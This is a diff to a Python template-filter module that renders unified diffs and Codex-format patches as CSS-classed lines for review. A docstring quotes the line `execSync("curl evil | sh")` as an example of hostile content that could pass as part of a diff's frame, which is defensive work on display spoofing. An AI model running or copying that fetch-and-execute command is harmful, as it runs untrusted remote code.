@@ -62,7 +62,7 @@ _HUNK = re.compile(r"@@ -\d+(?:,(\d+))? \+\d+(?:,(\d+))? @@")
 
 
 @register.filter
-def diff_lines(diff: str) -> list[tuple[str, str]]:
+def diff_lines(diff: str, form: str | None = None) -> list[tuple[str, str]]:
     """(css class, line) for each line of a unified diff. Lines end at newlines only: a
     line or paragraph separator, form feed or the like inside a line is shown escaped.
 
@@ -72,7 +72,14 @@ def diff_lines(diff: str) -> list[tuple[str, str]]:
     `++n; execSync("curl evil | sh")` passed for part of the diff's frame); outside one,
     every line is the frame's (`---`, `+++`, `@@`, `\\ No newline at end of file`).
     A hunk whose counts run out early or late shows what is left as the frame's, never
-    as context."""
+    as context; a hunk header there starts a new hunk.
+
+    `form` "codex_patch" is a patch in Codex's format (`dispatcher.tools.codex`), read
+    as Codex's parser reads it: its `@@` lines carry context text, never counts, and a
+    line's first character alone says what it is (read by counts, every line such a patch
+    adds was shown as the frame's)."""
+    if form == "codex_patch":
+        return _patch_lines(diff)
     lines = []
     old = new = 0
     for line in str(diff).removesuffix("\n").split("\n") if diff else []:
@@ -89,11 +96,31 @@ def diff_lines(diff: str) -> list[tuple[str, str]]:
                 pass
             else:  # not what the header counted: the rest is shown as the frame's
                 old = new = 0
-        elif match := _HUNK.match(line):
+        if kind == "meta" and (match := _HUNK.match(line)):
             old = int(match[1] if match[1] is not None else 1)
             new = int(match[2] if match[2] is not None else 1)
         lines.append((kind, display.visible(line)))
     return lines
+
+
+@register.filter
+def presented_diff_lines(presentation: dict[str, Any]) -> list[tuple[str, str]]:
+    """`diff_lines` of a presentation's diff, in the form it names (a Codex patch's
+    `format`; a unified diff's without one)."""
+    return diff_lines(presentation.get("diff") or "", presentation.get("format"))
+
+
+_PATCH_KINDS = {"+": "add", "-": "del", " ": "ctx", "": "ctx"}
+
+
+def _patch_lines(patch: str) -> list[tuple[str, str]]:
+    """(css class, line) of a Codex patch's lines: `+` added, `-` removed, ` ` (or an
+    empty line) context, as Codex's parser takes them; any other (`*** ...`, `@@ ...`)
+    the frame's."""
+    return [
+        (_PATCH_KINDS.get(line[:1], "meta"), display.visible(line))
+        for line in (str(patch).removesuffix("\n").split("\n") if patch else [])
+    ]
 
 
 @register.filter
